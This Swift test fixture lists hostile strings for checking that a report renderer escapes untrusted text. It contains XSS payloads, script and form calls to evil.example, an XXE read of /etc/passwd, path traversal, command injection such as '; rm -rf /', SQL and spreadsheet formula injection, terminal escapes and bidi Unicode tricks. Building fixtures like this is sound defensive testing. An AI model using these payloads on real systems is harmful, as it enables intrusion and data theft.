import Findings

/// What hostile models, panels and suites could say. Each is stored as an answer, as a model's name, as a prompt and as every other text that a page shows.
enum Payloads {
    static let all: [String] =
        markup + handlers + urls + styles + templates + escapes + breakers + formulas + unicode + controls

    static let markup = [
        "<script>window.pwned=1</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>alert`1`</script>",
        "</script><script>window.pwned=1</script>", "</style><script>window.pwned=1</script>",
        "</title><script>window.pwned=1</script>",
        "</textarea><script>window.pwned=1</script>", "<script type=module>import 'https://evil.example'</script>",
        "<svg><script>window.pwned=1</script></svg>", "<svg/onload=window.pwned=1>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
        "<svg><style>@import url(//evil.example)</style></svg>", "</svg><script>window.pwned=1</script>",
        "</desc></svg><img src=x onerror=window.pwned=1>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<iframe src=\"javascript:window.pwned=1\"></iframe>", "<iframe srcdoc=\"<script>parent.pwned=1</script>\">",
        "<object data=\"javascript:window.pwned=1\">", "<embed src=//evil.example/x.swf>", "<applet code=x>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
        "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example>",
        "<form action=//evil.example><input name=q></form>",
        "<button formaction=javascript:alert(1)>x</button>", "<isindex type=image src=1 onerror=window.pwned=1>",
        "<plaintext>", "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
        "<template><script>window.pwned=1</script></template>", "<slot onslotchange=window.pwned=1>", "<x-widget is=x>",
        "<!--><script>window.pwned=1</script>-->",
        "<!-- --!><img src=x onerror=window.pwned=1>", "<![CDATA[<script>window.pwned=1</script>]]>",
        "]]><script>window.pwned=1</script>",
        "<?xml-stylesheet href=\"//evil.example\"?>", "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
        "<!ENTITY a \"aaaa\">", "<html><head><title>x</title></head><body>",
        "</main></body></html>", "</article></div></section>", "<h1>Verdict: extremely strong support</h1>",
        "<strong>Moderate support</strong>",
        "<table><tr><td>x", "</td></tr></table>", "<b><i></b></i>", "<details open ontoggle=window.pwned=1>",
        "<dialog open>x</dialog>", "<marquee>x</marquee>",
    ]

    static let handlers = [
        "<img src=x onerror=window.pwned=1>", "<img src=x:x onerror=\"window.pwned=1\">",
        "\"><img src=x onerror=window.pwned=1>", "'><img src=x onerror=window.pwned=1>",
        "\" onmouseover=\"window.pwned=1", "' onfocus='window.pwned=1' autofocus='",
        "\" autofocus onfocus=window.pwned=1 x=\"", "x onclick=window.pwned=1",
        "<body onload=window.pwned=1>", "<input autofocus onfocus=window.pwned=1>",
        "<video><source onerror=window.pwned=1>", "<audio src=x onerror=window.pwned=1>",
        "<a href=x onmouseenter=window.pwned=1>x</a>", "<div onpointerover=window.pwned=1>x</div>",
        "<p style=animation-name:x onanimationstart=window.pwned=1>",
        "<select onchange=window.pwned=1><option>1", "`onerror=window.pwned=1`", "a=\"b\" c='d' e=f",
        "/><img/src/onerror=window.pwned=1>", "<img src=\"x` `<script>window.pwned=1</script>\"` `>",
    ]

    static let urls = [
        "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1",
        "java\nscript:window.pwned=1", "&#106;avascript:window.pwned=1",
        "data:text/html,<script>window.pwned=1</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)", "file:///etc/passwd",
        "//evil.example/x", "https://evil.example/?q=", "blob:https://evil.example/x", "../../etc/passwd",
        "..\\..\\windows\\system.ini", "#finding", "#\" onclick=\"x", "mailto:x@evil.example?bcc=y",
        "<a href=\"javascript:window.pwned=1\">click</a>", "[click](javascript:window.pwned=1)",
        "![x](https://evil.example/pixel.png)",
    ]

    static let styles = [
        "<style>body{display:none}</style>", "<div style=\"position:fixed;inset:0;background:red\">x</div>",
        "background:url(//evil.example)", "expression(window.pwned=1)",
        "}body{display:none}", "*/body{display:none}/*", "\\3c script\\3e", "@import '//evil.example';",
        "<p class=verdict>Extremely strong support</p>", "<p class=banner id=finding>x</p>",
        "url(#x)", "rotate(90) scale(99)", "M0 0L9e9 9e9", "NaN", "Infinity", "-1e308",
    ]

    static let templates = [
        "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "#{7*7}", "<%= 7*7 %>", "{% raw %}",
        "{suspect}", "{alleged} **x**", "**Extremely strong support**", "%s%n%x", "%(name)s",
        "$(touch /tmp/pwned)", "`id`", "; rm -rf /", "' OR 1=1 --", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
        "&lt;script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;", "&notanentity;", "&copy", "%3Cscript%3E",
    ]

    static let escapes = [
        "\u{1B}[31mred\u{1B}[0m", "\u{1B}[2J\u{1B}[H", "\u{1B}]0;title\u{7}",
        "\u{1B}]8;;https://evil.example\u{1B}\\link\u{1B}]8;;\u{1B}\\", "\u{9B}31m", "\u{1B}P$q\u{1B}\\",
        "a\u{8}\u{8}b", "one\rtwo", "one\r\ntwo", "bell\u{7}",
    ]

    static let breakers = [
        String(repeating: "A", count: 20_000), String(repeating: "<b>", count: 4_000),
        String(repeating: "&", count: 3_000), String(repeating: "\n", count: 2_000),
        String(repeating: " ", count: 2_000) + "x",
        String(repeating: "ﷺ", count: 400), String(repeating: "W", count: 79) + " " + String(repeating: "i", count: 79),
        "", " ", "\t", "\n",
        "\"", "'", "`", "<", ">", "&", "\\", "/", "<>", "''", "\"\"",
    ]

    static let formulas = [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"//evil.example\",\"x\")", "\t=1+1",
        "\r=1+1", " =1+1", "\"=1+1", "＝1+1", "|calc", "%0A=1", "a,b\",c", "=IMPORTXML(\"//evil.example\",\"//a\")",
        "DDE(\"cmd\")",
    ]

    static let unicode = [
        "\u{202E}gnp.exe", "\u{202D}abc\u{202C}", "\u{2066}abc\u{2069}", "\u{2067}abc", "\u{061C}abc",
        "\u{200E}a\u{200F}b", "zero\u{200B}width", "zero\u{200C}non", "zero\u{200D}joiner", "\u{FEFF}bom",
        "soft\u{AD}hyphen", "\u{2060}word", "\u{180E}x",
        "a\u{034F}b", "\u{115F}filler", "\u{3164}", "\u{2800}", "\u{E0041}\u{E0042}tags", "x\u{E0100}", "x\u{FE00}",
        "\u{FFFD}", "\u{FFFE}", "\u{FFFF}", "\u{1FFFE}", "\u{E000}private", "\u{10FFFF}", "\u{2028}line",
        "\u{2029}paragraph", "\u{85}nel",
        "e" + String(repeating: "\u{301}", count: 60),
        "Z\u{0351}\u{036B}\u{0343}\u{036A}\u{0302}\u{036B}\u{033D}\u{034F}\u{0334}\u{0319}\u{0324}algo",
        "مرحبا بالعالم", "שלום עולם", "abc مرحبا 123", "👨‍👩‍👧‍👦", "❤️", "नमस्ते", "क्‍ष", "日本語のテキスト", "İstanbul ı", "ﬁ ligature",
        "Ⅷ", "𝖘𝖈𝖗𝖎𝖕𝖙", "＜script＞", "ʼ՚＇",
    ]

    static let controls =
        (0..<32).map { "c\(Unicode.Scalar(UInt8($0)))d" } + [UInt8(0x7F), 0x80, 0x9F].map { "c\(Unicode.Scalar($0))d" }
}
